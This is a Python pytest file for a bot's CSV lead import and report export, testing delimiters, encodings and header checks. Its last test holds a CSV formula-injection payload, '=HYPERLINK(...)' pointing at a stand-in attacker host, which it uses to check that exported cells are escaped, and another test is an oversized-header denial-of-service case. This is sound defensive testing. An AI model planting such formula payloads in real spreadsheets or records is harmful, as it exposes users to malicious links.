"""CSV files as spreadsheets really write them, read by `rotation import`."""

from __future__ import annotations

from pathlib import Path

import pytest

from bot.lead_files import LeadFileInvalid, csv_leads


def write(tmp_path: Path, content: str | bytes, name: str = "leads.csv") -> Path:
    path = tmp_path / name
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return path


def test_spaces_after_commas_are_not_part_of_names_or_cells(tmp_path: Path) -> None:
    leads = csv_leads(write(tmp_path, "id, name, country\nL-1, Ann Lee, DE\n"))
    assert leads == [{"id": "L-1", "name": "Ann Lee", "country": "DE"}]


def test_a_quoted_cell_keeps_its_own_spaces(tmp_path: Path) -> None:
    leads = csv_leads(write(tmp_path, 'id, note\nL-1, "  two spaces"\n'))
    assert leads == [{"id": "L-1", "note": "  two spaces"}]


def test_a_trailing_row_of_only_commas_is_skipped(tmp_path: Path) -> None:
    leads = csv_leads(write(tmp_path, "id,name,country\nL-1,Ann,DE\n,,\n, ,\n"))
    assert [lead["id"] for lead in leads] == ["L-1"]


def test_the_id_column_is_found_in_any_case(tmp_path: Path) -> None:
    leads = csv_leads(write(tmp_path, "ID,Country\nL-1,DE\n"))
    assert leads == [{"id": "L-1", "Country": "DE"}]


@pytest.mark.parametrize("delimiter", [";", "\t", "|"])
def test_semicolon_tab_and_pipe_files_are_read_by_their_delimiter(tmp_path: Path, delimiter: str) -> None:
    rows = [["id", "name", "employees"], ["L-1", "Ann, Lee", "1,5"]]
    text = "".join(delimiter.join(row) + "\n" for row in rows)
    assert csv_leads(write(tmp_path, text)) == [{"id": "L-1", "name": "Ann, Lee", "employees": "1,5"}]


def test_windows_1252_is_read_with_its_encoding_and_refused_without_naming_the_option(tmp_path: Path) -> None:
    path = write(tmp_path, "id;name\nL-1;Zoë Müller\n".encode("cp1252"))
    assert csv_leads(path, encoding="cp1252") == [{"id": "L-1", "name": "Zoë Müller"}]
    with pytest.raises(LeadFileInvalid) as refused:
        csv_leads(path)
    assert "not UTF-8" in str(refused.value) and "--encoding cp1252" in str(refused.value)


def test_an_unknown_encoding_is_refused_in_words(tmp_path: Path) -> None:
    with pytest.raises(LeadFileInvalid, match="not a text encoding"):
        csv_leads(write(tmp_path, "id\nL-1\n"), encoding="klingon")


def test_a_header_without_id_names_what_it_found(tmp_path: Path) -> None:
    with pytest.raises(LeadFileInvalid) as refused:
        csv_leads(write(tmp_path, "lead, country\nL-1, DE\n"))
    assert "`id` column" in str(refused.value) and "`lead`, `country`" in str(refused.value)


def test_a_header_of_200000_columns_is_checked_in_one_pass(tmp_path: Path) -> None:
    """Attack: the duplicate-name check was quadratic (200,000 columns ran past 2 minutes)."""
    names = [f"c{i}" for i in range(200_000)]
    with pytest.raises(LeadFileInvalid) as refused:
        csv_leads(write(tmp_path, ",".join(["id", *names, "c7"]) + "\nL-1\n"))
    assert "the header names `c7` twice (columns 9 and 200002)" in str(refused.value)


def test_report_csv_cells_that_spreadsheets_would_run_are_written_as_text() -> None:
    """Attack: a member named `=HYPERLINK(...)` (names will come from Slack profiles)."""
    from bot.report_format import render_report
    from bot.routing.results import ReportRow

    row = ReportRow(period="2026-12", queue="+q", slack_id="@SUM(1+1)", leads=1, target_share=0.5,
                    actual_share=0.5, lag=-0.5, adjustments=0, weight="1", status="active",
                    name='=HYPERLINK("http://evil.example/?x","Alice")')
    text = render_report([row], "csv")
    assert "'=HYPERLINK(" in text and "'@SUM(1+1)" in text and ",'+q," in text
    assert ",-0.5," in text  # a number keeps its sign
